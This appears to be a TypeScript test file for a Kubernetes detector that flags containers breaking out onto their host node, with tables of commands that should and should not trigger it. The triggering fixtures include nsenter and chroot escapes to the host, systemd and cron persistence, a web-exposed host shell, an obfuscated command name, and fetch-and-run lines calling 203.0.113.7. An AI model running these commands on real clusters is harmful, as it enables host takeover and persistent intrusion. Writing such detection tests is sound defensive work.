import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CUSTOMARY_ROOTS } from '../../command/entry.ts';
import { blank, cronJob, indicatorTable, mounting, runs, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandHostEntry } from './host-entry.ts';

const elsewhere = (text: string) => cronJob(mounting('/', { mountPath: '/x' }, ['sh', '-c', text]));

indicatorTable(commandHostEntry, {
  fires: {
    'a process of the node that is looked for, and a shell': cronJob({
      hostPID: true,
      containers: [
        {
          name: 'main',
          image: 'alpine',
          securityContext: { privileged: true },
          command: [
            'sh',
            '-c',
            'P=$(ls /proc | grep -E "^[0-9]+$" | tail -1); nsenter --target $P --mount --pid -- sh',
          ],
        },
      ],
    }),
    'a place that is kept open': runs('nsenter', '-t', '1', '-m', '-p', 'bash', '-l', '-c', 'sleep infinity'),
    'the same without a shell': runs('nsenter', '-t', '1', '-m', '--', 'sleep', '100000'),
    'the same in an endless loop': scriptOn('/', "chroot /host sh -c 'while true; do sleep 3600; done'"),
    'a root that sudo changes': scriptOn('/', 'sudo -R /host bash'),
    'a timer that goes on': script('nsenter -t 1 -m -- systemd-run --on-calendar "*:0/5" /usr/bin/a'),
    'a unit from a directory for everybody': scriptOn('/', "chroot /host sh -c 'systemctl link /tmp/a.service'"),
    'a shell for whoever opens the page': runs('ttyd', '-W', '-p', '7681', 'nsenter', '-t', '1', '-a', 'bash'),
    'nsenter with a shell': runs('nsenter', '--target', '1', '--mount', '--uts', '--', '/bin/bash'),
    'nsenter without a program': runs('nsenter', '-t', '1', '-m', '-p'),
    'the target joined to its letter': runs('nsenter', '-mt1', 'sh'),
    'the target with an equals sign': runs('/nsenter', '--all', '--target=1', '--', 'su', '-'),
    'namespaces by their paths': runs('nsenter', '--mount=/proc/1/ns/mnt', '--', 'bash'),
    'nsenter that downloads': script('nsenter -t 1 -m -- curl -so /usr/local/bin/a http://203.0.113.7/a'),
    'nsenter that makes a unit stay': script("nsenter -t 1 -m -- sh -c 'systemctl enable --now agent'"),
    'a unit of its own beside one of the distribution': script(
      "nsenter -t 1 -m -- sh -c 'systemctl enable --now iscsid agentd'",
    ),
    'a unit of the distribution that it has written': script(
      'nsenter -t 1 -m -- sh -c \'echo "[Service]\nExecStart=/var/tmp/a" > /etc/systemd/system/iscsid.service; systemctl enable iscsid\'',
    ),
    'a chroot to where the root is mounted': scriptOn('/', 'chroot /host'),
    'the same at an unusual place': elsewhere('chroot /x /bin/bash'),
    'the same through a variable': elsewhere('chroot "$ROOT" bash'),
    'a chroot that writes a cron entry': scriptOn('/', `chroot /host sh -c 'echo "* * * * * root id" > /etc/cron.d/a'`),
    'a chroot fed by a here-document': scriptOn('/', 'chroot /host <<EOF\ncurl http://203.0.113.7/a -o /a\nEOF\n'),
    'a chroot where the body was cut before the volumes': script('chroot /host /bin/sh'),
    'behind a shell and wrappers': script("sudo env A=b nsenter -t 1 -a bash -c 'wget -qO- http://203.0.113.7/a | sh'"),
    'a word that is decoded': script(`$(echo ${btoa('nsenter')} | base64 -d) -t 1 -m -- bash`),
    'a file that says who was on the node': script("nsenter -t 1 -m -u -- sh -c 'id > /var/tmp/was-here'"),
    'the same where the root is mounted': scriptOn(
      '/',
      "chroot /host sh -c 'whoami >> /root/proof.txt; id >> /root/proof.txt'",
    ),
    'words in a list of code': runs('python3', '-c', 'import os; os.execvp("nsenter", ["nsenter", "-t", "1", "bash"])'),
    'a shell started from a shell': script("nsenter -t 1 -m -- sh -c 'cd /; bash -i'"),
  },
  staysSilent: {
    'a process of the own pod': cronJob({
      shareProcessNamespace: true,
      containers: [{ name: 'main', image: 'alpine', command: ['sh', '-c', 'nsenter -t $(pgrep -f server) -m -- sh'] }],
    }),
    'maintenance with a pause at its end': script("nsenter -t 1 -m -- sh -c 'fstrim -av; sleep 3600'"),
    'a short pause': runs('nsenter', '-t', '1', '-m', '--', 'sleep', '30'),
    'a page for a shell of the container': runs('ttyd', '-p', '7681', 'bash'),
    'one named command': runs('nsenter', '-t', '1', '-m', '--', 'sysctl', '-w', 'vm.max_map_count=262144'),
    'a named command beside the pod': scriptOn(
      '/',
      'chroot /host systemd-run --wait --unit upgrade apt-get upgrade -y',
    ),
    'named commands in a shell': script("nsenter -t 1 -m -- sh -c 'systemctl restart kubelet && journalctl -n 5'"),
    'who runs there, told to the log alone': script('nsenter -t 1 -m -- id'),
    'a log of maintenance that says who ran it': script(
      "nsenter -t 1 -m -- sh -c 'id > /var/log/tuning.log; sysctl -p >> /var/log/tuning.log'",
    ),
    'a client for volumes, from the packages of the distribution': script(
      "nsenter --mount=/proc/1/ns/mnt -- sh -c 'apt-get install -qy open-iscsi && systemctl -q enable iscsid.service && systemctl start iscsid'",
    ),
    'a backup of etcd': scriptOn('/', 'chroot /host /usr/local/bin/cluster-backup.sh /home/core/backup'),
    'nsenter into another process': script('nsenter -t 4711 -n ss -tlnp'),
    'a chroot into a tree of its own': script('chroot /build/rootfs /bin/sh -c "apk add curl"'),
    'the word in a text': script('echo nsenter -t 1'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const root of CUSTOMARY_ROOTS) {
  test(`${root} is taken for the root of the node`, () =>
    assert.equal(commandHostEntry.assess(script(`chroot ${root}/ /bin/sh`)).kind, 'hit'));
}
